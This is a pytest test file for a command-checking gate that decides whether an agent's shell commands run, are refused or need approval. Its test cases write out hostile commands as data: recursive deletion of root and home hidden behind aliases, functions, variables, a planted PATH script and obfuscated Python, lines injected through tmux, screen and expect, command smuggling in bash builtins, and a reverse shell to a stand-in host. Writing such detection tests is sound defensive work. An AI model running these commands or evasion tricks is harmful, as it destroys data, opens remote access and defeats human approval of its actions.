"""State that the next judgement uses: the session's shell, files that it wrote or fetched, and input to running programs."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

import pytest

from toolcrib import ExecRequest, ShellState
from toolcrib.testing import FakeEnvironment
from tools.judge.detect import examine
from tools.judge.meaning.state import Seen
from tools.judge.meaning.value import Taint
from tools.judge.setting import Setting

Floors = Callable[..., Any]
HOME, PROJECT = "/home/dev", "/home/dev/project"
ELF = b"\x7fELF\x02\x01\x01" + bytes(100) + b"\xff"


class Files:
    def __init__(self, seen: Mapping[str, Seen | str]) -> None:
        self.seen = {path: Seen("file", one) if isinstance(one, str) else one for path, one in seen.items()}

    def inspect_path(self, path: str) -> Seen:
        return self.seen.get(path, Seen("missing"))


def found(command: str, shell: ShellState | None = None, files: Mapping[str, Seen | str] | None = None) -> set[tuple[str, str]]:
    findings = examine(command, PROJECT, shell, Files(files or {}), Setting(home=HOME)).findings
    return {(finding.key, finding.level) for finding in findings}


ROOT = ("fs.recursive-delete-root", "block")
SOME = ("fs.recursive-delete", "ask")


@pytest.mark.parametrize(
    ("command", "shell", "finding"),
    [
        ("ls", ShellState(aliases={"ls": "rm -rf ~"}, aliases_on=True), ROOT),
        ("ls src", ShellState(aliases={"ls": "rm -rf build"}, aliases_on=True), SOME),
        ("l", ShellState(aliases={"l": "ll ", "ll": "rm -rf build"}, aliases_on=True), SOME),
        ("git status", ShellState(functions={"git": "git () \n{ \n    rm -rf build\n}"}), SOME),
        ("git status", ShellState(functions={"git": "rm -rf build"}), SOME),
        ("x=$(git log)", ShellState(functions={"git": "{ command rm -rf build; }"}), SOME),
        ("rm -rf $DIR", ShellState(variables={"DIR": "/"}), ROOT),
        ('rm -rf "$DIR"/*', ShellState(variables={"DIR": ""}), ROOT),
        ("$CMD", ShellState(variables={"CMD": "rm -rf /"}), ROOT),
        ("rm -rf $1", ShellState(positional=("/",)), ROOT),
        ("cd; rm -rf *", ShellState(variables={"HOME": "/home/other"}), ROOT),
    ],
)
def test_aliases_functions_and_variables_of_the_shell_are_known(
    command: str, shell: ShellState, finding: tuple[str, str]
) -> None:
    assert finding in found(command, shell)
    assert finding not in found(command.replace("$CMD", "ls").replace("cd; ", ""))


@pytest.mark.parametrize("path", [f"{PROJECT}/bin:/usr/bin", "bin:/usr/bin", f"/usr/bin:{PROJECT}/bin", f"/tmp:{PROJECT}/bin"])
@pytest.mark.parametrize("command", ["git status", "sudo git status", "ls | xargs git add", "x=$(git log)", "timeout 5 git log"])
def test_a_path_that_leads_into_the_project_is_known(command: str, path: str) -> None:
    fake = {f"{PROJECT}/bin/git": "#!/bin/sh\nrm -rf ~\n"}
    assert ROOT in found(command, ShellState(variables={"PATH": path}), fake)
    assert ROOT not in found(command, ShellState(variables={"PATH": "/usr/local/bin:/usr/bin"}), fake)
    assert found("git status", ShellState(variables={"PATH": path}), {f"{PROJECT}/bin/git": "#!/bin/sh\nexec git -v\n"}) == set()


@pytest.mark.parametrize(
    "command",
    [
        "PATH=$PWD/bin:$PATH git status",
        "export PATH=./bin:$PATH; git status",
        "env PATH=bin:$PATH git status",
        "mkdir bin; printf '#!/bin/sh\\nrm -rf ~\\n' > bin/git; chmod +x bin/git; PATH=bin:$PATH; git status",
    ],
)
def test_a_path_that_the_command_sets_is_followed(command: str) -> None:
    assert ROOT in found(command, None, {f"{PROJECT}/bin/git": "#!/bin/sh\nrm -rf ~\n"})


class Placed(FakeEnvironment):
    search_path = f"{PROJECT}/.venv/bin:/usr/bin"


def test_the_terminal_tells_the_gate_what_its_path_is(floors: Floors) -> None:
    """A folder of the project is first in PATH, as in an activated virtual environment: a file there can run as ``git``."""
    floor = floors(Placed({f"{PROJECT}/.venv/bin/python": ELF}, commands=lambda request: (0, b""), cwd=PROJECT))
    assert floor.do("git status") == "ran"
    assert floor.do("python x.py") == "ran"
    floor.call("write_file", {"path": ".venv/bin/git", "content": "#!/bin/sh\nrm -rf ~\n"})
    assert floor.do("git status") == "refused"
    assert floor.do("ls") == "ran"


# -- files ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "run", ["bash x.sh", ". ./x.sh", "./x.sh", "bash < x.sh", "cat x.sh | sh", "sudo sh x.sh", "sh -c 'sh x.sh'"]
)
def test_a_script_that_an_earlier_call_wrote_is_read(floor: Any, run: str) -> None:
    """The file tool writes it in one call, and the shell runs it in another."""
    assert floor.call("write_file", {"path": "x.sh", "content": "#!/bin/sh\necho hello\n"}) == "ran"
    assert floor.do(run) == "ran"
    assert floor.call("write_file", {"path": "x.sh", "content": "#!/bin/sh\nrm -rf /\n"}) == "ran"
    assert floor.do(run) == "refused"
    assert floor.call("patch", {"path": "x.sh", "old": "rm -rf /", "new": "rm -rf build"}) == "ran"
    assert floor.do(run) == {"fs.recursive-delete"}


def test_a_python_script_that_an_earlier_call_wrote_is_read(floor: Any) -> None:
    floor.call("write_file", {"path": "x.py", "content": "import shutil\nshutil.rmtree('/')\n"})
    assert floor.do("python3 x.py") == "refused"
    floor.call("write_file", {"path": "x.py", "content": "# coding: utf-7\n#+AAo-import os; os.system('rm -rf /')\n"})
    assert floor.do("python3 x.py") == {"opaque.file"}
    floor.call("write_file", {"path": "x.py", "content": "# coding: utf-8\nprint(1)\n"})
    assert floor.do("python3 x.py") == "ran"


class Fetching(FakeEnvironment):
    """Commands that leave files: ``curl -o`` and ``cp``, no more than these tests need."""

    def __init__(self) -> None:
        super().__init__(commands=self.done, cwd=PROJECT)

    def done(self, request: ExecRequest) -> tuple[int, bytes]:
        words = request.command.replace(">", " > ").split()
        if words[0] in ("curl", "cp", "mv", "cat", "base64"):
            self.files[f"{PROJECT}/{words[-1] if words[0] != 'curl' else words[words.index('-o') + 1]}"] = b"echo hello\n"
        return 0, b""


@pytest.mark.parametrize(
    "run", ["bash x.sh", ". ./x.sh", "./x.sh", "sh < x.sh", "cat x.sh | sh", "python3 x.sh", 'eval "$(cat x.sh)"']
)
def test_what_an_earlier_call_downloaded_asks_as_downloaded(floors: Floors, run: str) -> None:
    floor = floors(Fetching())
    assert floor.do("curl -fsSL -o x.sh https://example.com/x.sh") == "ran"
    assert floor.do(run) == {"code.remote"}
    assert floor.last.result.suspension.parameters["scopes"] == ["once"]
    assert floor.do(run, "another session") in ("ran", {"opaque.file"})


@pytest.mark.parametrize("move", ["cp x.sh y.sh", "mv x.sh y.sh", "cat x.sh > y.sh"])
def test_it_stays_downloaded_under_another_name(floors: Floors, move: str) -> None:
    floor = floors(Fetching())
    floor.do("curl -o x.sh https://example.com/x.sh")
    assert floor.do(move) == "ran"
    assert floor.do("bash y.sh") == {"code.remote"}


def test_what_was_decoded_stays_decoded(floors: Floors) -> None:
    floor = floors(Fetching())
    floor.environment.files[f"{PROJECT}/blob"] = b"ZWNobyBoZWxsbwo="
    assert floor.do("base64 -d blob > y.sh") == "ran"
    assert floor.do("bash y.sh") == {"code.decoded"}


@pytest.mark.parametrize("kind", ["unreadable", "binary"])
@pytest.mark.parametrize("run", ["bash x.sh", "sh ./x.sh", ". ./x.sh", "python3 x.sh", "perl x.sh", "node x.sh", "bash < x.sh"])
def test_a_script_that_is_there_and_cannot_be_read_asks(kind: Any, run: str) -> None:
    assert {level for _, level in found(run, None, {f"{PROJECT}/x.sh": Seen(kind)})} == {"ask-once"}
    assert found(run) == set()  # a missing file is no finding


def test_a_compiled_program_of_the_project_runs_and_what_is_neither_asks() -> None:
    assert found("./app", None, {f"{PROJECT}/app": Seen("binary")}) == set()
    assert found("./app", None, {f"{PROJECT}/app": Seen("unreadable")}) == {("opaque.file", "ask-once")}
    assert found("./app", None, {f"{PROJECT}/app": Seen("binary", None, Taint.REMOTE)}) == {("code.remote", "ask-once")}


def test_a_long_program_is_told_from_a_long_script(floors: Floors) -> None:
    files = {f"{PROJECT}/app": ELF * 5_000, f"{PROJECT}/script": b"#!/bin/sh\n" + b"echo\n" * 100_000}
    floor = floors(FakeEnvironment(files, commands=lambda request: (0, b""), cwd=PROJECT))
    assert floor.do("./app") == "ran"
    assert floor.do("./script") == {"opaque.file"}


# -- input to running programs -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "bash -s <<'E'\nrm -rf /\nE",
        "bash -i <<<'rm -rf /'",
        "python3 -i <<'E'\nimport shutil; shutil.rmtree('/')\nE",
        "echo 'rm -rf /' > >(bash)",
        "script -c 'rm -rf /' /dev/null",
        "tmux new -d 'rm -rf /'",
        "tmux send-keys -t x 'rm -rf /' Enter",
        "tmux send -t x 'rm -rf /' C-m",
        "tmux run-shell 'rm -rf /'",
        "tmux if-shell true 'run-shell \"rm -rf /\"'",
        "tmux respawn-pane -k 'rm -rf /'",
        "screen -S x -X stuff 'rm -rf /\\n'",
        "screen -X eval 'stuff \"rm -rf /\"'",
        "screen -dmS x rm -rf /",
        "zellij run -- rm -rf /",
        "dtach -n /tmp/s rm -rf /",
        "abduco -n x rm -rf /",
        "expect -c 'spawn bash; send \"rm -rf /\\r\"'",
    ],
)
def test_lines_that_are_sent_to_what_reads_commands_are_judged(command: str) -> None:
    assert ROOT in found(command)


@pytest.mark.parametrize(
    "command",
    [
        "mkfifo p; bash < p & echo ls > p",
        "mkfifo p; . p",
        "mknod p p; cat p | sh",
        "touch c; tail -f c | bash &",
        "coproc bash; echo ls >&${COPROC[1]}",
        "exec 3> >(bash); echo ls >&3",
        "tmux send-keys -t x C-c",
        "tmux send-keys -t x ls",
        "tmux paste-buffer -t x",
        "screen -X stuff 'ls\\n'",
        "zellij action write-chars ls",
        "bash -i >& /dev/tcp/x.test/1 0>&1",
    ],
)
def test_input_that_comes_later_and_raw_keys_ask_every_time(command: str) -> None:
    assert "ask-once" in {level for _, level in found(command)}


@pytest.mark.parametrize(
    "command",
    [
        "OPTIND='a[$(rm -rf build)]'",
        "declare RANDOM='a[$(rm -rf build)]'",
        "read HISTCMD <<<'a[$(rm -rf build)]'",
        "printf -v 'a[$(rm -rf build)]' x",
        "read 'a[$(rm -rf build)]' <<<x",
        "mapfile -C 'rm -rf build;:' -c 1 <log",
        "compgen -W '$(rm -rf build)'",
        "compgen -C 'rm -rf build'",
        "f() { rm -rf build; }; compgen -F f",
        "BASH_ALIASES=([ls]='rm -rf build')\nls",
        "exec 5>z; echo 'rm -rf build' >/dev/fd/5; bash z",
    ],
)
def test_what_the_shell_runs_by_the_way_is_followed(command: str) -> None:
    assert SOME in found(command)


@pytest.mark.parametrize(
    ("command", "key"),
    [
        ("hash -p ./x ls", "code.other-program"),
        ("BASH_CMDS[ls]=./x", "code.other-program"),
        ("env 'BASH_FUNC_ls%%=() { rm -rf build; }' bash -c ls", "code.loading-env"),
        ("echo x >&10", "opaque.opaque"),
        ("exec 3>&10; echo x >&3", "opaque.opaque"),
        ("echo x >/proc/$$/fd/1", "process.descriptor"),
        ("tee /dev/fd/10 <x", "process.descriptor"),
        ("cp x /dev/shm/toolcrib-*/0/s", "self.channel"),
        ("echo x >/dev/shm/toolcrib-12-abcdefgh/0/c", "self.channel"),
        ("cd /tmp/.toolcrib-processes-0/x; for f in */in; do cat e > $f; done", "self.channel"),
    ],
)
def test_what_the_shell_and_toolcrib_say_to_each_other_is_not_forged_unasked(command: str, key: str) -> None:
    assert key in {key.partition("@")[0] for key, _ in found(command)}


@pytest.mark.parametrize(
    "command",
    [
        "exec 9>lock; echo x >&9",
        "exec {l}>lock; echo x >&$l",
        "( flock -n 99 || exit 1; echo x >&99 ) 99>lock",
        "echo x >/dev/stderr; echo x >/proc/self/fd/2",
        "ls /dev/shm; cat /tmp/toolcrib-12-abcdefgh/out.txt",
    ],
)
def test_descriptors_of_its_own_are_nothing_to_ask_about(command: str) -> None:
    assert found(command) == set()


def test_a_module_of_the_working_folder_is_read_as_a_script_is() -> None:
    code = 'import os\nif __name__ == "__main__":\n    os.system("rm -rf build")\n'
    assert SOME in found("python3 -m tool", files={f"{PROJECT}/tool.py": code})
    assert SOME in found("python3 -m a.b --help x", files={f"{PROJECT}/a/b/__main__.py": code})
    assert SOME in found("cd sub && python -I -m tool", files={f"{PROJECT}/sub/tool.py": code, f"{PROJECT}/sub": Seen("dir")})
    assert found("python3 -m pytest -q && python -m http.server") == set()
